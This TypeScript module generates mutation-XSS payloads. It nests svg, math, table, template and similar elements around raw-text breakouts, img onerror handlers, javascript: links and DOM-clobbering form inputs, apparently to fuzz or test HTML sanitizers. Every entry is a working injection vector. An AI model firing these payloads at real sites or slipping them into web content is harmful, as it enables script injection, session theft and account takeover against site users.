import { type Payload, pick, SCRIPTS } from './payload.js';

/*
 * Mutation XSS: HTML that is one tree when it is parsed, and another when what was made of it is parsed again. It takes an
 * element that changes how what follows is read: another vocabulary, raw text, an inert document, a table that puts out
 * what it cannot hold, a form that may not be nested.
 */

const OUTER: readonly string[] = [
  '<svg>',
  '<math>',
  '<svg><foreignObject>',
  '<svg><desc>',
  '<svg><title>',
  '<math><mtext>',
  '<math><mi><mglyph>',
  '<math><annotation-xml encoding="text/html">',
  '<math><annotation-xml encoding="image/svg+xml"><svg>',
  '<table>',
  '<table><tr><td>',
  '<table><caption>',
  '<table><colgroup>',
  '<select>',
  '<select><optgroup><option>',
  '<template>',
  '<noscript>',
  '<form><div></form><form>',
  '<p>',
  '<a href="https://x.example/">',
  '<h1><b><i>',
  '<ul><li>',
  '<button>',
  '<object>',
  '<marquee>',
  '<frameset>',
  '<ruby><rt>',
  '<nobr>',
];

const MIDDLE: readonly string[] = [
  '',
  '<style>',
  '<!--',
  '<![CDATA[',
  '<title>',
  '<textarea>',
  '<xmp>',
  '<noembed>',
  '<noframes>',
  '<iframe>',
  '<plaintext>',
  '<script>',
  '<template>',
  '<table><tr><style>',
  '<mglyph><style>',
  '<malignmark><style><!--',
  '<math><mtext><table><mglyph><style><!--',
  '<svg></p><style><a id="',
  '<a><b><table><a>',
  '<select><style>',
  '<?xml-stylesheet ',
  '</br></p><!DOCTYPE x>',
];

/** What is inside, and comes alive where the reading changes; `@` stands for what is run. */
const INNER: readonly string[] = [
  '<img src=x onerror="@">',
  '</style><img src=x onerror="@">',
  '--><img src=x onerror="@">',
  ']]><img src=x onerror="@">',
  '<a title="</noscript></style></title></textarea></xmp></noembed></noframes></iframe></template>--><img src=x onerror=@>">x</a>',
  '<p></p></svg></math><img src=x onerror="@">',
  '&lt;img src=x onerror=&quot;@&quot;&gt;',
  '</select></table></form><script>@</script>',
  '<a href="javascript:@">x<table><tr><a href="https://y.example/">y',
  '<form><input name=attributes><input name=childNodes></form><svg onload="@">',
];

const CLOSING: readonly string[] = [
  '',
  '</p>',
  '</table>after',
  '</math></svg>after',
  '<p>after</p>',
  '</template><b>after',
];

/** Every outer element around every middle one, each pair around some of what may come alive. */
export function nestings(innerOfEach = 3): Payload[] {
  return OUTER.flatMap((outer, row) =>
    MIDDLE.flatMap((middle, column) =>
      Array.from({ length: innerOfEach }, (_, turn): Payload => {
        const at = row * 3 + column + turn * 3;
        const inner = pick(INNER, at).replaceAll('@', pick(SCRIPTS, at));
        return { family: 'nestings', text: `${outer}${middle}${inner}${pick(CLOSING, row + column + turn)}` };
      }),
    ),
  );
}
